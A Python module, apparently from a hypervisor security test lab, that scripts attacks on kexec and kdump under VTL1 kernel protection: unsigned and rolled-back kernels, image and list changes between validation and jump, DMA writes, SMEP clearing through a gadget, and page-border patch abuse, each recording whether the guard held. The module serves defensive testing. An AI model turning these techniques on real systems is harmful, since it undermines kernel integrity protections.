"""kexec and kdump, done by the guest's own code, and attacks on one kernel's making way for another.

Where VTL1 guards, the guest can only ask; elsewhere it copies the image over itself and jumps.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import replace

from vtlab.client.driver import COMMAND_PORT, READY, Driver, parse
from vtlab.client.machine import Machine
from vtlab.client.serial import read_first
from vtlab.client.symbols import Symbols
from vtlab.errors import GuestLost
from vtlab.services import HEKI_PAGE, HEKI_PATCH, HEKI_RANGE, KEXEC_MAGIC, KexecType, Service
from vtlab.v1 import vmm_pb2
from vtlab.x86.registers import Cr4
from vtlab_attacks.controls import LISTED_JUMP
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Transition, observe
from vtlab_attacks.guest import BOOT_TIMEOUT, Guest
from vtlab_attacks.kernels import BANNER, FORGED_BANNER, NEXT, OLD, UNSIGNED
from vtlab_attacks.resets import GUARDED, found, say
from vtlab_attacks.secure_memory import BYPASS_DMA, LITEBOX_852, fw_cfg_writes
from vtlab_attacks.state import PAGE, direct, memory, register, show_bytes

VERIFIES = "Heki v3 thread (Christopherson 2024): VTL1 verifies the kexec target and stands down"
GAP = "litebox: no method executes a validated kexec image, so something has to be lifted for it"
NO_DEPUTY = "VTL1 is not enabled, so there is no deputy"
MARK = b"the kernel before"
STOPPED = "selfguard: stopped"
# So many RESETs without a start between them are one that never ends.
ENDLESS = 3
# Modules lie in the order in which they are given.
PLACES = {NEXT: 0, OLD: 1, UNSIGNED: 2}


def order(driver: Driver, command: str) -> None:
    """A command that has an answer. Raises GuestRefusal, GuestFault."""
    parse(driver.command(command))


def make_way(attempts: Attempts, machine: Machine, command: str) -> str | None:
    """A command that is refused, or after which another kernel starts: then what that one's log says.

    Raises:
        GuestLost: no kernel starts any more.
    """
    answers = machine.serial_reader(COMMAND_PORT, from_now=True)
    log = machine.serial_reader(0, from_now=True)
    generation = machine.info().generation
    say(machine, command)
    came, said = read_first(
        [(answers, "\n"), (log, READY), (log, STOPPED)],
        BOOT_TIMEOUT,
        lambda seen: seen.generation > generation + ENDLESS,
    )
    if came < 0:
        raise GuestLost(f"machine '{machine.name}'", f"resets itself again and again: {machine.info().reason}")
    if came == 0:
        attempts.step(parse, said.rstrip())
    after = machine.wait_state(vmm_pb2.MACHINE_STATE_RUNNING)
    if after.generation != generation and not after.reason.startswith(("kexec", "kdump")):
        attempts.note(f"RESET: {after.reason}")
    return said if came == 1 else None


def image_at(machine: Machine, name: str) -> int:
    """GPA of an image among the kernel's boot modules, which start on pages."""
    places: list[int] = [at for at in found(machine, KEXEC_MAGIC) if at % PAGE == 0]
    return places[PLACES[name]]


def banner(machine: Machine, symbols: Symbols) -> bytes | None:
    """What tells the kernels apart."""
    seen: bytes | None = memory(machine, symbols.physical("driver_banner"), len(BANNER))
    return seen


def which_kernel(
    machine: Machine, symbols: Symbols, steps: Callable[[Attempts], None], what: str = "banner of the kernel that runs"
) -> Evidence:
    """Aimed at running another kernel than VTL1 would."""
    return observe(
        what,
        lambda: banner(machine, symbols),
        steps,
        symbols,
        lambda _, after: after == FORGED_BANNER,
        show_bytes,
    )


# ------------------------------------------------------------------------------------------------------- transitions


def succeed(load: str, go: str) -> Callable[[Guest], tuple[Guest, Evidence]]:
    """The kernel loads another and makes way; complete if that one is new, and guarded if this one was."""

    def run(guest: Guest) -> tuple[Guest, Evidence]:
        machine, symbols = guest.machine, guest.symbols
        mailbox = symbols.physical("driver_mailbox")
        by_vtl1 = guest.protected and guest.design == "vtl"
        attempts = Attempts(symbols)
        guest.driver.write_bytes(symbols["driver_mailbox"], MARK)
        before = machine.info()
        order(guest.driver, f"{load} {NEXT}")
        said = make_way(attempts, machine, go) or ""
        following = replace(guest, driver=Driver(machine))
        after, left = machine.info(), machine.read_memory(mailbox, len(MARK))
        reached = (
            not any(left)
            and after.vtl1_enabled == before.vtl1_enabled
            and after.generation == before.generation + by_vtl1  # else it is a RESET that came of it
            and (GUARDED in said) == by_vtl1
        )
        marks = [(before, MARK), (after, left)]
        shown = [f"{show_bytes(mark)}, VTL1 {'on' if one.vtl1_enabled else 'off'}" for one, mark in marks]
        what = "a mark of the kernel before, and VTL1"
        return following, Evidence(what, *shown, reached, left == MARK, str(attempts))

    return run


TRANSITIONS = [
    Transition(
        "kexec",
        "Makes way for the next kernel, which asks for its own protection",
        VERIFIES,
        succeed("kexec load", "kexec exec"),
    ),
    Transition(
        "kdump",
        "Breaks down and makes way for the crash kernel that was verified when it was loaded",
        VERIFIES,
        succeed("kdump load", "crash"),
    ),
]


# ----------------------------------------------------------------------------------------------------------- attacks


def load_and_execute(name: str) -> Callable[[Machine, Driver, Symbols], Evidence]:
    """As the kernel itself would."""

    def run(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
        def steps(attempts: Attempts) -> None:
            if attempts.step(order, driver, f"kexec load {name}"):
                make_way(attempts, machine, "kexec exec")

        return which_kernel(machine, symbols, steps)

    return run


def change_after_validation(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Writes to the image between load and jump."""
    image = image_at(machine, NEXT)
    target = min(at for at in found(machine, BANNER) if at > image)

    def steps(attempts: Attempts) -> None:
        order(driver, f"kexec load {NEXT}")
        attempts.step(driver.write_bytes, direct(target), FORGED_BANNER)
        make_way(attempts, machine, "kexec exec")

    return which_kernel(machine, symbols, steps)


def change_list(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Between load and jump, has all that the kernel knows of the image say another: place, size, list of modules."""
    forged = image_at(machine, UNSIGNED)

    def steps(attempts: Attempts) -> None:
        order(driver, f"kexec load {NEXT}")
        attempts.step(driver.write_bytes, symbols["images"], struct.pack("<Q", forged))
        attempts.step(driver.write_bytes, symbols["kimages"], struct.pack("<Q", 0))
        make_way(attempts, machine, "kexec exec")

    return which_kernel(machine, symbols, steps)


def jump_by_itself(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """What relocate_kernel of a kernel without VTL1 does, in one that has it."""
    forged = image_at(machine, UNSIGNED)

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.write_bytes, symbols["images"], struct.pack("<Q", forged))
        make_way(attempts, machine, "kexec jump")

    return which_kernel(machine, symbols, steps)


def list_over_vtl1(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Names VTL1's memory as the image, as the list of modules, and as the place to keep what was before."""
    table, own = symbols.physical("driver_mailbox"), symbols.physical("vtl1_memory")
    ordinary = [table + page * PAGE for page in (1, 2, 3)]

    def steps(attempts: Attempts) -> None:
        for over in KexecType:
            kinds = list(KexecType) if over is KexecType.PAGES else [KexecType.KIMAGE, KexecType.KERNEL]
            starts = [own if kind is over else ordinary[kind] for kind in kinds]
            ranges = [HEKI_RANGE.pack(0, at, at + PAGE, kind) for at, kind in zip(starts, kinds, strict=True)]
            machine.write_memory(table, HEKI_PAGE.pack(0, 0, len(ranges)) + b"".join(ranges))
            attempts.step(driver.vtl, Service.KEXEC_VALIDATE, table, len(ranges), int(len(ranges) == len(KexecType)))

    return observe("VTL1's memory", lambda: memory(machine, own, PAGE), steps, symbols, show=show_bytes)


def smep(machine: Machine) -> int:
    return int(bool(register(machine, "cr4") & Cr4.SMEP))


def clear_smep(attempts: Attempts, machine: Machine, symbols: Symbols) -> None:
    attempts.step(Driver(machine).call, symbols["gadget_mov_cr4"], register(machine, "cr4") & ~Cr4.SMEP)


def crash_while_healthy(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Asks for the crash kernel though nothing crashed: a forged one, then the right one; what is lifted by it?"""

    def steps(attempts: Attempts) -> None:
        if attempts.step(order, driver, f"kdump load {UNSIGNED}"):
            make_way(attempts, machine, "crash")
            return
        order(driver, f"kdump load {NEXT}")
        make_way(attempts, machine, f"vtl {Service.KEXEC_EXECUTE:#x} 1")
        clear_smep(attempts, machine, symbols)

    return observe(
        "banner of the kernel that runs, CR4.SMEP",
        lambda: (banner(machine, symbols), smep(machine)),
        steps,
        symbols,
        show=lambda seen: f"{show_bytes(seen[0])}, {seen[1]}",
    )


def stand_down_only(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Asks VTL1 to stand down with nothing to jump to."""

    def steps(attempts: Attempts) -> None:
        for crash in (0, 1, 2):
            attempts.step(driver.vtl, Service.KEXEC_EXECUTE, crash)
        clear_smep(attempts, machine, symbols)

    return observe("CR4.SMEP", lambda: smep(machine), steps, symbols, lambda _, after: not after)


def dma_into_image(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    target = image_at(machine, NEXT)

    def steps(attempts: Attempts) -> None:
        order(driver, f"kexec load {NEXT}")
        fw_cfg_writes(attempts, machine, driver, symbols, target)

    return observe("first bytes of the image", lambda: memory(machine, target), steps, symbols, show=show_bytes)


def patch_across_border(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Of a listed site: the right page with other bytes, then the listed bytes with another page for the rest."""
    target, request = symbols["patch_site_border"], symbols.physical("driver_mailbox")
    first, border = symbols.physical(target), symbols.physical(target) // PAGE * PAGE + PAGE
    other, rest_closed = bytes.fromhex("b801000000"), symbols.physical("vtl1_memory")
    forged = [(other, border), (LISTED_JUMP, border + PAGE), (LISTED_JUMP, rest_closed), (LISTED_JUMP, 0)]

    def steps(attempts: Attempts) -> None:
        if attempts.step(driver.patch, target, other):
            return
        for code, second in forged:
            machine.write_memory(request, HEKI_PATCH.pack(first, second, len(code), code))
            attempts.step(driver.vtl, Service.PATCH_TEXT, request, 0)
        # The request itself across a border, its rest where VTL0 may not read.
        attempts.step(driver.vtl, Service.PATCH_TEXT, request + PAGE - 8, rest_closed)

    return observe("text on both sides", lambda: memory(machine, first, 5), steps, symbols, show=show_bytes)


TRANSITION_ATTACKS = [
    Attack("kexec-unsigned", "Makes way for a kernel that nobody signed", VERIFIES, load_and_execute(UNSIGNED)),
    Attack(
        "kexec-rollback",
        "Makes way for an old kernel, rightly signed, with a known hole",
        "Heki v3 thread (Christopherson 2024): the kexec target must be verified; Linux IMA has no version",
        load_and_execute(OLD),
    ),
    Attack("kexec-changed-after-validation", "Writes to the image between load and jump", GAP, change_after_validation),
    Attack(
        "kexec-list-double-fetch",
        "Changes the list of the image between load and jump",
        "litebox issue 1036 (TOCTOU)",
        change_list,
    ),
    Attack(
        "kexec-list-over-vtl1", "Names VTL1's memory in the list of an image", LITEBOX_852, list_over_vtl1, NO_DEPUTY
    ),
    Attack("kexec-own-jump", "Copies and jumps by itself, past VTL1", GAP, jump_by_itself),
    Attack("kexec-dma", "Has fw_cfg write into the image by DMA", BYPASS_DMA, dma_into_image),
    Attack(
        "kdump-lifts-protection",
        "Asks for the crash kernel while all is well",
        "Linux crash_kexec: whatever is loaded runs, from any oops",
        crash_while_healthy,
    ),
    Attack(
        "stand-down-without-jump",
        "Asks VTL1 to stand down and stays",
        VERIFIES,
        stand_down_only,
    ),
    Attack(
        "patch-across-page-border",
        "Uses the patch service across the border of a page",
        "litebox issue 764 (text-patch hole: the offset of a split page)",
        patch_across_border,
    ),
]
